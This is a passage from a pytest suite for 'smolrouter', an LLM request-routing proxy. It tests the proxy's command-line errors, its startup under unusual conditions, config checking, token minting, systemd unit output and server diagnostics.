        (["-p", "80"], "unknown flag -p; "),
        (["--jwt-secret", "-hidden"], "--jwt-secret: expected one argument"),
        (["export", "--format", "csv", "left", "over"], "unrecognized arguments: left over"),
        (["--listen-port"], "--listen-port: expected one argument"),
        (["no-such-command"], "'no-such-command' (choose from "),
        (["token", "--subject", "me", "--days", "x"], "--days: 'x': allowed is a number from"),
        (["token"], "required: --subject"),
        (["token", "--subject", "me", "--rate", "60"], "--rate: '60': allowed is a number for"),
        (["token", "--subject", "me", "--rate", "0/m"], "--rate: '0/m': allowed is a number for"),
        (["token", "--subject", "me", "--models", "a,,b"], "--models: 'a,,b': allowed are names"),
        (["token", "--subject", "me", "--models", ""], "--models: '': allowed are names"),
        (["token", "--subject", "me", "--models", "a [gpu]"], "write 'a', which counts for"),
        (["token", "--subject", "me", "--models", "/^a/"], "is a regular expression; allowed are"),
    ):
        with pytest.raises(smolrouter.ConfigError) as raised:
            smolrouter.run_command(args, {})
        (line,) = str(raised.value).splitlines()
        assert words in line, line
    done = run_program("--default-upstrem", "http://x:1")
    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
    assert done.stderr.startswith("smolrouter: unknown flag --default-upstrem; did you mean ")


def test_an_old_python_is_told_so() -> None:
    # An older Python must be able to parse the file: it would say SyntaxError otherwise.
    ast.parse(SOURCE, feature_version=(3, 8))
    pretend = "import sys; sys.version_info = (3, 9, 1); import smolrouter"
    done = subprocess.run(
        [sys.executable, "-c", pretend], cwd=HERE, text=True, capture_output=True, timeout=30
    )
    assert (done.returncode, done.stderr.count("\n")) == (1, 1)
    assert done.stderr.startswith("SmolRouter needs Python 3.10 or newer")


def test_a_port_that_is_taken_stops_with_one_line() -> None:
    done = run_program(settings={"LISTEN_PORT": default_upstream().port})
    assert done.returncode
    assert str(default_upstream().port) in done.stderr
    assert "Traceback" not in done.stderr


FAILED_STARTS = {
    "no address of this machine": ({"LISTEN_HOST": "192.0.2.1"}, 1),
    "an unknown name": ({"LISTEN_HOST": "nobody.invalid"}, 1),
    "all addresses by a star": ({"LISTEN_HOST": "*"}, 2),
    "no name": ({"LISTEN_HOST": "a..b"}, 2),
    "a bad routing file": ({"ROUTES_CONFIG": "nowhere.json"}, 2),
}


@pytest.mark.parametrize("settings, status", FAILED_STARTS.values(), ids=FAILED_STARTS)
def test_a_start_that_fails_says_why_and_leaves_nothing(
    settings: dict[str, str], status: int, tmp_path: pathlib.Path
) -> None:
    done = run_program(settings={"LISTEN_PORT": 0, **settings}, cwd=tmp_path)
    (line,) = done.stderr.splitlines()
    (value,) = settings.values()
    assert (done.returncode, value in line, done.stdout) == (status, True, "")
    assert list(tmp_path.iterdir()) == []
    exported = run_program("export", cwd=tmp_path)
    (line,) = exported.stderr.splitlines()
    assert (exported.returncode, "nothing has been logged" in line) == (2, True)
    assert list(tmp_path.iterdir()) == []


# --- without any package --------------------------------------------------------------

TABLE: dict[str, Any] = {
    "servers": {"fast-box": "http://127.0.0.1:9"},
    "aliases": {"assistant": {"instances": ["fast-box/llama3-8b"]}},
    "routes": [{"match": {"model": "/-1.5b$/", "source_host": "10.0.0.0/8"},
                "route": {"upstream": "fast-box", "model": "small"}}],
}  # fmt: skip


@pytest.fixture
def folder() -> Iterator[pathlib.Path]:
    """Give a test a folder with nothing in it but the program."""
    with tempfile.TemporaryDirectory(prefix="smol-") as name:
        shutil.copy(SMOLROUTER, pathlib.Path(name) / "smolrouter.py")
        yield pathlib.Path(name)


ALONE = [sys.executable, "-I", "-S", "smolrouter.py"]  # -S: no PyYAML either


def alone(folder: pathlib.Path, *args: str, **settings: Any) -> Any:
    """Run a command of the program in this folder, without any package."""
    kept = {name: os.environ[name] for name in ("PATH", "HOME") if name in os.environ}
    environment = kept | {name: str(value) for name, value in settings.items()}
    return subprocess.run(
        [*ALONE, *args],
        cwd=folder,
        env=environment,
        text=True,
        capture_output=True,
        timeout=30,
    )


def test_alone_it_relays(folder: pathlib.Path) -> None:
    python = (sys.executable, "-I", "-S")
    settings = {"DEFAULT_UPSTREAM": default_upstream().url}
    routes = {"aliases": {"friend": {"instances": [{"url": default_upstream().url, "model": "m"}]}}}
    with Router(settings, routes, python=python, program=folder / "smolrouter.py") as it:
        assert post_chat(it, "tiny").text == "You said: hi"
        assert post_chat(it, "friend", stream=True).text == "You said: hi"
        assert it.stop() == 0
        assert "Traceback" not in it.stderr


def test_the_routing_file_is_looked_for_beside_the_program(folder: pathlib.Path) -> None:
    (folder / "routes.yaml").write_text('{"servers": {"beside": "http://beside"}}')
    work = folder / "work"
    work.mkdir()

    def check(**settings: str) -> Any:
        command = [sys.executable, str(folder / "smolrouter.py"), "check"]
        environment = bare_environment(settings)
        return subprocess.run(command, cwd=work, env=environment, capture_output=True, text=True)

    assert "server beside:" in check().stdout
    # Set by its name, it has to be where that says.
    assert check(ROUTES_CONFIG="routes.yaml").returncode == 2
    (work / "routes.yaml").write_text('{"servers": {"near": "http://near"}}')
    assert "server near:" in check().stdout


def test_alone_it_checks_json(folder: pathlib.Path) -> None:
    (folder / "routes.yaml").write_text(json.dumps(TABLE, indent=1))
    done = alone(folder, "check")
    assert (done.returncode, done.stderr) == (0, "")
    (folder / "routes.yaml").write_text(json.dumps({**TABLE, "rotues": []}))
    done = alone(folder, "check")
    assert done.returncode == 2
    assert "rotues" in done.stderr and "routes.yaml" in done.stderr


@pytest.mark.parametrize("text", ["", " \n", "\ufeff{}", "\n {}\n"], ids=ascii)
def test_alone_it_reads_json_with_a_margin(folder: pathlib.Path, text: str) -> None:
    (folder / "routes.yaml").write_text(text, "utf-8")
    done = alone(folder, "check")
    assert (done.returncode, done.stderr) == (0, "")


def test_alone_it_says_what_yaml_needs(folder: pathlib.Path) -> None:
    (folder / "routes.yaml").write_text("servers:\n  fast-box: http://127.0.0.1:9\n")
    done = alone(folder, "check")
    assert done.returncode == 2
    (line,) = done.stderr.strip().splitlines()
    assert "pip install pyyaml" in line and "python3-yaml" in line and "or write JSON" in line


# --- the start ------------------------------------------------------------------------


def by_shell(words: str) -> tuple[str, ...]:
    """Return what runs Python by a shell, in which `$0 $@` is the command."""
    return "/bin/sh", "-c", words, sys.executable


ODD_STARTS = {
    # In units of 512 octets, as POSIX has it.
    "a limit of 256 KiB on files": by_shell('ulimit -f 512; exec "$0" "$@"'),
    "no stdin": by_shell('exec "$0" "$@" <&-'),
    "no stdout": by_shell('exec "$0" "$@" >&-'),
    "neither": by_shell('exec "$0" "$@" <&- >&-'),
    "isolated": (sys.executable, "-I"),
    "flags": (sys.executable, "-Wignore", "-B"),
    # Not begun again, and as good.
    "a flag with a value": (sys.executable, "-X", "utf8"),
    "a profiler": (sys.executable, "-m", "cProfile"),
}


@pytest.mark.parametrize("python", ODD_STARTS.values(), ids=ODD_STARTS.keys())
def test_it_starts_and_relays_anyhow(python: Sequence[str]) -> None:
    settings = {"DEFAULT_UPSTREAM": default_upstream().url}
    with Router(settings, python=python) as router:
        assert post_chat(router, "anyhow").status == 200


def test_the_start_says_how_the_servers_are() -> None:
    with Upstream(models=("a", "b")) as upstream:
        fixed = {"url": refusing_url(), "models": ["m"]}
        servers = {"on": upstream.url, "off": refusing_url(), "fixed": fixed}
        settings = {"DEFAULT_UPSTREAM": "on"}
        with Router(settings, {"servers": servers}) as router:
            for line in (
                "server on: up, 2 models",
                "server off: connection refused",
                "server fixed: not asked; it has 1 model",
            ):
                assert wait_until(lambda line=line: f"{line}\n" in router.stderr), line
            # A policy that nobody has changed is no news.
            assert "Web UI" not in router.stderr
        settings |= {"LOG_LEVEL": "WARNING", "WEBUI_SECURITY": "NONE"}
        with Router(settings, {"servers": servers}) as router:
            assert wait_until(lambda: len(upstream.own_requests) > 2)
            assert post_chat(router, "a").status == 200
            router.stop()
            words = "the Web UI is open to whoever reaches the port (WEBUI_SECURITY=NONE)\n"
            assert words in router.stderr
            assert "server on" not in router.stderr


def test_a_start_without_any_server_looks_on_this_machine() -> None:
    def refuse(received: Received) -> Iterable[Step]:
        return [b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n"]

    def speak_no_http(received: Received) -> Iterable[Step]:
        return [b"220 mail\r\n", CLOSE]

    if accepts(8000):
        pytest.skip("somebody listens where the default server would")
    with Upstream(models=["qwen"]) as first, Upstream(models=["phi"]) as second:
        ports = [first.port, second.port]
        with (
            Upstream(speak_no_http) as odd,
            Router(limits={"local_ports": [*ports, odd.port]}) as it,
        ):
            assert f"SERVERS='ollama={first.url} lmstudio={second.url}'\n" in it.stderr
            listed = {model["id"] for model in get_document(it, "/v1/models")["data"]}
            assert listed == {"qwen", "phi"}
            assert post_chat(it, "phi").status == post_chat(it, "unknown").status == 200
            assert [received.path for received in second.requests] == ["/v1/chat/completions"]
            assert [received.path for received in first.requests] == ["/v1/chat/completions"]
        # A server that wants a key is one all the same.
        with (
            Upstream(refuse) as closed,
            Router(limits={"local_ports": [closed.port, second.port]}) as it,
        ):
            assert f"SERVERS='ollama={closed.url} lmstudio={second.url}" in it.stderr
        named = {"DEFAULT_UPSTREAM": default_upstream().url}
        with Router(named, limits={"local_ports": ports}) as it:
            assert "found on this machine" not in it.stderr


def test_it_starts_without_stderr() -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    settings = bare_environment({"LISTEN_PORT": port, "ENABLE_LOGGING": "false"})
    command = [*by_shell('exec "$0" "$@" <&- >&- 2>&-'), str(SMOLROUTER)]
    with tempfile.TemporaryDirectory(prefix="smol-") as folder:
        process = subprocess.Popen(command, cwd=folder, env=settings)
        try:
            assert wait_until(lambda: accepts(port))
            assert request(port, "GET", "/healthz").status == 200
        finally:
            process.terminate()
            process.wait(20)


@pytest.mark.parametrize("closed", ["<&-", ">&-", "2>&-", "<&- >&- 2>&-"])
def test_a_command_ends_well_without_a_standard_stream(closed: str) -> None:
    command = [*by_shell(f'exec "$0" "$@" {closed}'), str(SMOLROUTER), "check"]
    done = subprocess.run(command, env=bare_environment({}), capture_output=True, timeout=30)
    assert (done.returncode, done.stderr) == (0, b"")


START_AND_TELL = """
import sys
sys.path.insert(0, {folder!r})
import smolrouter
real = smolrouter.run_command
def run_command(*arguments):
    print("begins", file=sys.stderr, flush=True)
    return real(*arguments)
smolrouter.run_command = run_command
sys.exit(smolrouter.main(["serve"]))
"""


def test_it_survives_a_reload_while_it_starts(tmp_path: pathlib.Path) -> None:
    """systemd may send SIGHUP as soon as the process is there."""
    process = subprocess.Popen(
        [sys.executable, "-c", START_AND_TELL.format(folder=str(HERE))],
        cwd=tmp_path,
        env=bare_environment({"LISTEN_PORT": 0}),
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stderr
    try:
        assert process.stderr.readline() == "begins\n"
        ended = threading.Event()

        def send_signals() -> None:
            while not ended.wait(0.002):
                process.send_signal(signal.SIGHUP)

        sending = threading.Thread(target=send_signals)
        sending.start()
        line = process.stderr.readline()
        ended.set()
        sending.join()
        assert "listens on" in line
        process.terminate()
        rest = process.communicate(timeout=20)[1]
        assert (process.returncode, "Traceback" in rest) == (0, False)
    finally:
        process.kill()
        process.wait()


def accepts(port: int) -> bool:
    """Tell whether somebody listens on a port of this machine."""
    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) == 0


def test_it_keeps_no_syntax_tree_and_shows_what_it_is() -> None:
    with Router({"DEFAULT_UPSTREAM": "http://127.0.0.1:9"}, args=["--log-level", "INFO"]) as router:
        assert memory_mib(router) < 40
        words = pathlib.Path(f"/proc/{router.process.pid}/cmdline").read_bytes().split(b"\0")
        assert words[-4:-1] == [str(SMOLROUTER).encode(), b"--log-level", b"INFO"]


def test_a_cache_beside_the_file_is_neither_made_nor_believed(folder: pathlib.Path) -> None:
    file = folder / "smolrouter.py"
    settings = {"DEFAULT_UPSTREAM": default_upstream().url}
    with Router(settings, program=file):
        assert [path.name for path in folder.iterdir()] == ["smolrouter.py"]
    # Somebody else's: other code, with the size and the time of the file.
    odd = compile("raise SystemExit('odd')", str(file), "exec")
    status = file.stat()
    header = importlib.util.MAGIC_NUMBER + struct.pack(
        "<III", 0, int(status.st_mtime), status.st_size
    )
    cached = pathlib.Path(importlib.util.cache_from_source(str(file)))
    cached.parent.mkdir()
    cached.write_bytes(header + marshal.dumps(odd))
    done = subprocess.run(
        [sys.executable, "-c", "import smolrouter"], cwd=folder, capture_output=True, text=True
    )
    assert done.stderr == "odd\n"
    with Router(settings, program=file) as router:
        assert post_chat(router, "cached").status == 200


def test_modules_in_the_working_folder_are_not_imported(folder: pathlib.Path) -> None:
    (folder / "work").mkdir()
    for name in ("argparse", "json", "yaml"):
        (folder / "work" / f"{name}.py").write_text("raise SystemExit('odd')")
    settings = bare_environment({"LISTEN_PORT": 0})
    command = [sys.executable, str(folder / "smolrouter.py"), "--enable-logging", "maybe"]
    done = subprocess.run(
        command, cwd=folder / "work", env=settings, capture_output=True, text=True
    )
    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
    assert "allowed are" in done.stderr


# What runs a router on a system that has not got something, such as Windows. The standard
# library has been imported before: on that system it would do without, too.
START_WITHOUT = """
import asyncio, concurrent.futures, sqlite3, ssl, subprocess, sys, tempfile, threading
del sys.argv[0]
sys.path.insert(0, {folder!r})
place, _, name = {missing!r}.rpartition(".")
if not place:
    sys.modules[name] = None
elif place == "loop":
    loop = type(asyncio.new_event_loop())
    setattr(loop, name, getattr(asyncio.AbstractEventLoop, name))
elif hasattr(sys.modules[place], name):
    delattr(sys.modules[place], name)
import os, signal
import smolrouter
sys.exit(smolrouter.main(sys.argv[1:]))
"""
MISSING = [
    "fcntl", "resource", "ctypes", "signal.SIGHUP", "signal.SIGKILL", "loop.add_signal_handler",
    "os.umask", "os.execv", "os.fork", "os.kill", "os.geteuid", "os.getuid", "os.fchmod",
    "os.set_blocking", "os.sched_setscheduler", "os.memfd_create", "os.writev",
    "os.statvfs", "os.sync", "os.posix_fadvise", "socket.SO_REUSEPORT",
]  # fmt: skip


@pytest.mark.parametrize("missing", MISSING)
def test_it_does_without_what_another_system_has_not(missing: str) -> None:
    code = START_WITHOUT.format(folder=str(SMOLROUTER.parent), missing=missing)
    settings = {"DEFAULT_UPSTREAM": default_upstream().url}
    with Router(settings, python=(sys.executable, "-c", code)) as router:
        assert post_chat(router, "elsewhere").status == 200
        assert wait_until(lambda: request(router.port, "GET", "/api/logs").json)
        assert router.stop() == 0, router.stderr


# --- commands -------------------------------------------------------------------------


def test_check_prints_the_table(folder: pathlib.Path) -> None:
    (folder / "table.json").write_text(json.dumps(TABLE))
    done = alone(folder, "check", ROUTES_CONFIG=folder / "table.json")
    assert done.returncode == 0
    for word in ("fast-box", "http://127.0.0.1:9", "assistant", "llama3-8b", "small"):
        assert word in done.stdout


def test_check_tells_all_mistakes_at_once(folder: pathlib.Path) -> None:
    """What refers to something that is wrong itself is not called wrong, too."""
    table = {
        "servers": {
            "a": {"url": "ftp://a"},
            "b": {"url": "http://b", "api_key": "${NO_SUCH_KEY}"},
            "c": {"url": "http://c", "slot": 1},
        },
        "aliases": {
            "fine": {"instances": ["a/m", "b/m"]},
            "odd": {"instances": ["c/m", "nobody/m", "c/m"], "strategy": "failover"},
        },
        "routes": [
            {"match": {"model": "/(/", "source_host": "home"}, "route": {"alias": "nobody"}},
            {"match": {}, "route": {"alias": "odd"}},
            {"match": {}, "route": {"upstream": "a", "model": ""}},
        ],
        "rules": [],
    }
    (folder / "routes.yaml").write_text(json.dumps(table))
    settings = {"LISTEN_PORT": "eighty", "STRIP_THINKING": "perhaps", "API_SECURITY": "ALWAYS_AUTH"}
    done = alone(folder, "check", **settings)
    assert (done.returncode, done.stdout) == (2, "")
    places = (
        "LISTEN_PORT='eighty': ",
        "STRIP_THINKING='perhaps': ",
        "API_SECURITY='ALWAYS_AUTH': ",
        "rules: unknown key",
        "servers.a.url: ",
        "servers.b.api_key: ${NO_SUCH_KEY} is not set",
        "servers.c.slot: unknown key",
        "aliases.odd.instances[1]: unknown server 'nobody'",
        "aliases.odd.instances[2]: c/m stands here twice",
        "routes[0].match.model: ",
        "routes[0].match.source_host: ",
        "routes[0].route.alias: unknown 'nobody'",
        "routes[2].route.model: ",
    )
    for line, place in zip(done.stderr.splitlines(), places, strict=True):
        assert line.startswith("smolrouter: ") and place in line, (line, place)
    # Other commands do not look at the routing file for that.
    assert alone(folder, "health", **settings).stderr.count("\n") == 3
    # Where only the first one has room, it says that there are more.
    with pytest.raises(smolrouter.ConfigError) as caught:
        routing(json.dumps(table))
    assert str(caught.value).endswith(" (and 9 more; see `check`)")


WRONG_SETTINGS_ALONE = {
    "SERVERS": "a=ftp://a",
    "DEFAULT_UPSTREAM": "http://a:0",
    "ROUTES_CONFIG": " ",
    "JWT_SECRET": "changeme",
}


@pytest.mark.parametrize("name", WRONG_SETTINGS_ALONE)
def test_check_guesses_no_mistakes(name: str, folder: pathlib.Path) -> None:
    """Without a server of SERVERS, an alias would seem to be wrong; without a secret, a policy."""
    table = {"aliases": {"x": {"instances": ["a/m"]}}} if name != "JWT_SECRET" else {}
    (folder / "routes.yaml").write_text(json.dumps(table))
    settings = {
        "API_SECURITY": "ALWAYS_AUTH",
        "JWT_SECRET": SECRET,
        name: WRONG_SETTINGS_ALONE[name],
    }
    done = alone(folder, "check", **settings)
    (line,) = done.stderr.splitlines()
    assert (done.returncode, line.startswith(f"smolrouter: {name}=")) == (2, True)


def test_check_asks_how_the_servers_are(folder: pathlib.Path) -> None:
    off = refusing_url()
    with Upstream(models=("one", "two")) as upstream:
        servers = f"on={upstream.url} off={off}"
        done = alone(folder, "check", "--ask", SERVERS=servers)
        assert [one.path for one in upstream.own_requests] == ["/v1/models"]
        assert alone(folder, "check", SERVERS=servers).returncode == 0
        assert len(upstream.own_requests) == 1
    # The settings are right, whether the servers are there or not.
    assert done.returncode == 0
    first, second = [line for line in done.stdout.splitlines() if line.startswith("  server ")]
    assert re.fullmatch(r"  server on: http://\S+ \(auto\): up, 2 models, \d+ ms", first)
    assert second.startswith(f"  server off: {off} (auto): connection refused; it is off")


def test_check_warns_of_urls_without_a_scheme(folder: pathlib.Path) -> None:
    done = alone(folder, "check", SERVERS="a=box:1", DEFAULT_UPSTREAM="box:2")
    assert [line for line in done.stdout.splitlines() if line.startswith("warning: ")] == [
        "warning: DEFAULT_UPSTREAM: 'box:2' has no scheme; http:// is assumed",
        "warning: SERVERS: 'box:1' has no scheme; http:// is assumed",
    ]


def test_check_warns_of_what_hardly_is_meant(folder: pathlib.Path) -> None:
    rules = [
        {"match": match, "route": {"model": "x"}}
        for match in ({"model": "gpt-*"}, {"model": "/a.*/"}, {}, {"model": "b"}, {})
    ]
    (folder / "routes.yaml").write_text(json.dumps({"servers": {"a": "box:1"}, "routes": rules}))
    done = alone(folder, "check", MODEL_MAP='{"claude-*": "b"}')
    assert done.returncode == 0
    assert [line for line in done.stdout.splitlines() if line.startswith("warning: ")] == [
        "warning: servers.a: 'box:1' has no scheme; http:// is assumed",
        "warning: routes[0]: 'gpt-*' is an exact name; a pattern is written /^gpt-/",
        "warning: MODEL_MAP: 'claude-*' is an exact name; a pattern is written /^gpt-/",
        "warning: routes[2] matches everything: what stands behind it is never reached",
    ]


def test_one_is_not_many(folder: pathlib.Path) -> None:
    (folder / "routes.yaml").write_text(json.dumps(TABLE))
    done = alone(folder, "check", MODEL_MAP='{"a": "b", "c": "d"}')
    counts = "1 server, 1 alias, 1 route, 2 mapped names"
    assert done.stdout.splitlines()[0] == f"routes: routes.yaml: {counts}"


def test_demo(folder: pathlib.Path) -> None:
    """Its requests are answered, by the second server where the first one fails."""
    command = [sys.executable, "smolrouter.py", "demo", "--seconds", "30"]
    with subprocess.Popen(
        [*command, "--listen-port", "0"],
        cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
        env={"SHUTDOWN_GRACE": "0"},
    ) as demo:  # fmt: skip
        ending = threading.Timer(20, demo.kill)
        ending.start()
        try:
            lines = [demo.stdout.readline() for _ in range(3)]
        finally:
            demo.send_signal(signal.SIGTERM)
            demo.communicate(timeout=20)
            ending.cancel()
    assert lines[0].startswith("Open http://127.0.0.1:")
    for line, model in zip(lines[1:], ("gpt-4", "coding-assistant"), strict=True):
        assert f" {model} -> qwen3-8b: 200, " in line
    assert demo.returncode == 0


@pytest.mark.parametrize(
    "args, words",
    [
        (["assistant"], ["assistant", "fast-box", "llama3-8b", "http://127.0.0.1:9"]),
        (["x-1.5b", "--source-host", "10.9.8.7"], ["routes[0]", "small"]),
        (
            ["x-1.5b", "--source-host", "11.9.8.7"],
            ["routes[0]", "http://localhost:8000"],
        ),
        (["other"], ["DEFAULT_UPSTREAM", "http://localhost:8000"]),
    ],
)
def test_explain(folder: pathlib.Path, args: list[str], words: list[str]) -> None:
    (folder / "routes.yaml").write_text(json.dumps(TABLE))
    done = alone(folder, "explain", *args)
    assert (done.returncode, done.stderr) == (0, "")
    for word in words:
        assert word in done.stdout


def test_health() -> None:
    port = default_router().port
    assert run_program("health", settings={"LISTEN_PORT": port}).returncode == 0
    assert run_program("health", "--listen-port", str(port)).returncode == 0
    wildcard = {"LISTEN_PORT": port, "LISTEN_HOST": "0.0.0.0"}
    assert run_program("health", settings=wildcard).returncode == 0
    nobody = refusing_url().rpartition(":")[2]
    done = run_program("health", settings={"LISTEN_PORT": nobody})
    assert done.returncode == 1
    assert "Traceback" not in done.stderr


def test_unit(folder: pathlib.Path) -> None:
    done = alone(folder, "unit", LISTEN_PORT=4321)
    assert done.returncode == 0
    assert all(line.startswith("warning: ") for line in done.stderr.splitlines())
    for word in (
        "[Unit]",
        "[Service]",
        "[Install]",
        "ExecStart=",
        "4321",
        str(folder / "smolrouter.py"),
        "NoNewPrivileges=",
    ):
        assert word in done.stdout
    if shutil.which("systemd-analyze"):
        (folder / "smolrouter.service").write_text(done.stdout)
        unit = folder / "smolrouter.service"
        subprocess.run(["systemd-analyze", "verify", unit], check=True, timeout=30)
        judged = subprocess.run(
            ["systemd-analyze", "security", "--offline=true", "--threshold=15", unit],
            text=True,
            capture_output=True,
            timeout=30,
        )  # 1.5 of 10; an unconfined one has 9.6
        assert "unrecognized option" in judged.stderr or judged.returncode == 0, judged.stdout


def test_a_minted_token_has_its_scopes_and_an_id() -> None:
    minted = []
    for flags in ((), ("--models", "llama*, helper", "--rate", "60/m", "--api-only")):
        args = ("token", "--subject", "alice", "--days", "2", *flags)
        done = run_program(*args, settings={"JWT_SECRET": SECRET})
        assert done.returncode == 0 and done.stdout.count("\n") == 1
        claims = smolrouter.read_claims(done.stdout.strip(), SECRET)
        assert f'`revoked: ["{claims["jti"]}"]`' in done.stderr
        assert claims["exp"] - claims["iat"] == 2 * 86400
        minted.append(claims)
    plain, limited = minted
    assert set(plain) == {"sub", "iat", "exp", "jti"}
    assert plain["jti"] != limited["jti"] and len(plain["jti"]) == 16
    scopes = {"models": ["llama*", "helper"], "rate": "60/m", "api_only": True}
    assert {name: limited[name] for name in limited if name not in plain} == scopes


def test_version_and_help() -> None:
    assert re.search(r"\b\d+\.\d+\.\d+\b", run_program("--version").stdout)
    done = run_program("--help")
    assert done.returncode == 0
    for word in (
        "serve",
        "check",
        "explain",
        "token",
        "health",
        "doctor",
        "unit",
        "demo",
        "--listen-port",
        "--routes-config",
    ):
        assert word in done.stdout


def test_stdout_that_is_closed_is_no_traceback() -> None:
    reader, writer = os.pipe()
    os.close(reader)
    done = subprocess.run(
        [sys.executable, str(SMOLROUTER), "--help"],
        stdout=writer,
        stderr=subprocess.PIPE,
        timeout=30,
    )
    os.close(writer)
    assert b"Traceback" not in done.stderr


PRINTING = ("check", "explain m", "token --subject me", "unit", "export", "--help", "--version")


@pytest.mark.parametrize("words", PRINTING)
def test_a_full_stdout_is_said_in_one_line(words: str, log_folder: LogFolder) -> None:
    if not os.path.exists("/dev/full"):
        pytest.skip("there is no /dev/full here")
    with Router({**log_folder.settings, "DEFAULT_UPSTREAM": default_upstream().url}) as router:
        post_chat(router, "exported")
        wait_for_row(router, "exported")
    for redirection in (">/dev/full", ">/dev/full 2>&1"):
        command = [*by_shell(f'exec "$0" "$@" {redirection}'), str(SMOLROUTER), *words.split()]
        environment = bare_environment({**log_folder.settings, "JWT_SECRET": SECRET})
        done = subprocess.run(command, env=environment, capture_output=True, timeout=30, text=True)
        assert done.returncode != 0
        if "2>&1" not in redirection:
            # Where the checkout lies in /tmp, `unit` warns that no unit can reach it there.
            # `unit` warns, and `token` says how to revoke it, before they print.
            said_before = ("warning:", "smolrouter: to end this token early")
            lines = [line for line in done.stderr.splitlines() if not line.startswith(said_before)]
            assert (done.returncode, lines) == (1, ["smolrouter: no space left on device"])


@pytest.mark.skipif(sys.platform != "linux", reason="names of files are octets on Linux alone")
def test_a_database_whose_name_is_no_text(tmp_path: pathlib.Path) -> None:
    name = os.fsdecode(b"log\xff.db")
    settings = {"DB_PATH": str(tmp_path / name), "DEFAULT_UPSTREAM": default_upstream().url}
    with Router(settings) as router:
        assert post_chat(router, "odd-name").status == 200
        assert wait_for_row(router, "odd-name")["status_code"] == 200
        assert "Traceback" not in router.stderr
    assert (tmp_path / name).exists()
    exported = run_program("export", settings=settings)
    assert (exported.returncode, "odd-name" in exported.stdout) == (0, True)
    checked = run_program("check", settings={**settings, "LISTEN_PORT": "x"})
    assert (checked.returncode, "Traceback" in checked.stderr) == (2, False)
    for command in ("unit", "check"):
        done = run_program(command, settings=settings, errors="surrogateescape")
        assert (done.returncode, "Traceback" in done.stderr) == (0, False)


# --- how the servers are --------------------------------------------------------------


def run_doctor(
    capsys: pytest.CaptureFixture[str], *urls: str, limits: Any = smolrouter.LIMITS, **settings: Any
) -> tuple[int, str]:
    """Look at these servers; return the exit status and what was printed."""
    environ = {name: str(value) for name, value in settings.items()}
    status = smolrouter.run_command(["doctor", *urls], environ, limits)
    printed = capsys.readouterr().out
    # What is to be pasted is one line for each server, however long.
    tables = printed.partition("\nservers:\n")[0]
    assert max(map(len, tables.splitlines())) <= 100, printed
    return status, printed


def row_after(printed: str, heading: str, name: str) -> list[str]:
    """Return the cells of the row that begins with `name`, in the table with this heading."""
    table = f"\n{printed}".partition(f"\n{heading}  ")[2].partition("\n\n")[0]
    (row,) = [line for line in table.splitlines() if line.startswith(f"{name}  ")]
    return re.split(r"  +", row)[1:]


def paste(printed: str, **environ: str) -> dict[str, Any]:
    """Return the servers of the printed block, as the router reads it from a routing file."""
    import_or_skip("yaml")
    block = printed[printed.index("\nservers:\n") :]
    settings = smolrouter.Settings.from_mapping({})
    return dict(smolrouter.parse_routes(block, "pasted.yaml", environ, settings).servers)


def test_doctor_tells_what_a_good_server_can(capsys: pytest.CaptureFixture[str]) -> None:
    entry = {**model_entry("tiny"), "owned_by": "vllm", "max_model_len": 8192}

    def serve(received: Received) -> Iterable[Step]:
        if received.path == "/v1/models":
            return json_response({"data": [entry]})
        if received.path in ("/v1/messages", "/v1/responses", "/api/chat"):
            return json_response({"detail": "Not Found"}, 404)
        return well_behaved(received)

    with Upstream(serve) as upstream:
        status, printed = run_doctor(capsys, SERVERS=f"gpu={upstream.url}")
    assert status == 0
    kind, reached, models = row_after(printed, "server", "gpu")
    assert (kind, reached.endswith("s"), models) == ("vLLM", True, "1")
    assert row_after(printed, "answers", "gpu") == ["yes", "yes", "yes", "no", "no", "no"]
    model, first, *more = row_after(printed, "chat", "gpu")
    assert (model, first.endswith("s")) == ("tiny", True)
    # It streams and tells its usage, sends no pings, does not think, and takes tools.
    assert more == ["yes", "yes", "none seen", "none seen", "yes"]
    assert "  tiny: 8192 tokens of context\n" in printed
    assert "remedies" not in printed
    assert paste(printed)["gpu"].url.port == upstream.port
    asked = [one.json for one in upstream.requests if one.method == "POST"]
    assert {one["model"] for one in asked} == {"tiny"}
    # All that it costs are some tokens.
    assert sum(one.get("max_tokens", 0) for one in asked) < 32


def serve_like_ollama(received: Received) -> Iterable[Step]:
    """Answer as Ollama does, with a model that thinks."""
    if received.path == "/":
        return whole_response(b"Ollama is running")
    if received.path == "/v1/models":
        names = ("nomic-embed-text:latest", "big:70b", "qwen3:8b")
        return json_response({"data": [model_entry(name) for name in names]})
    if received.path == "/api/ps":
        return json_response({"models": [{"name": "qwen3:8b", "context_length": 4096}]})
    if received.path == "/api/show":
        info = {"general.architecture": "qwen3", "qwen3.context_length": 40960}
        return json_response({"capabilities": ["completion", "thinking"], "model_info": info})
    if received.path == "/api/chat":
        said = {"role": "assistant", "content": "Hello"}
        return json_response({"message": said, "done": True, "done_reason": "stop"})
    if received.path == "/v1/embeddings":
        return json_response({"error": {"message": "this model does not support embeddings"}}, 400)
    if not received.path.startswith(("/v1/chat/", "/v1/completions")):
        return whole_response(b"404 page not found", 404)
    document = received.json
    if "tools" in document:
        return json_response({"error": {"message": "qwen3:8b does not support tools"}}, 400)
    if "stream_options" in document:
        return json_response({"error": {"message": "unknown field stream_options"}}, 400)
    if not document.get("stream"):
        return well_behaved(received)
    thoughts = text_deltas("They", " greet", key="reasoning")
    return sse_response([b": ping\n\n", *thoughts, text_delta("Hi"), finish_delta(), "[DONE]"])


def test_doctor_knows_an_ollama(capsys: pytest.CaptureFixture[str]) -> None:
    with Upstream(serve_like_ollama) as upstream:
        status, printed = run_doctor(capsys, upstream.url)
    assert status == 0
    name = upstream.authority
    assert row_after(printed, "server", name)[::2] == ["Ollama", "3"]
    assert row_after(printed, "answers", name) == ["yes", "yes", "error", "no", "no", "yes"]
    # The model that is loaded was asked, and the one for embeddings was not. No usage was told.
    model, _, *more = row_after(printed, "chat", name)
    assert (model, more) == ("qwen3:8b", ["yes", "no", "yes", "apart", "error"])
    assert "  qwen3:8b: 4096 tokens of context, completion, thinking, loaded\n" in printed
    assert "embeddings: answered 400 (this model does not support embeddings)" in printed
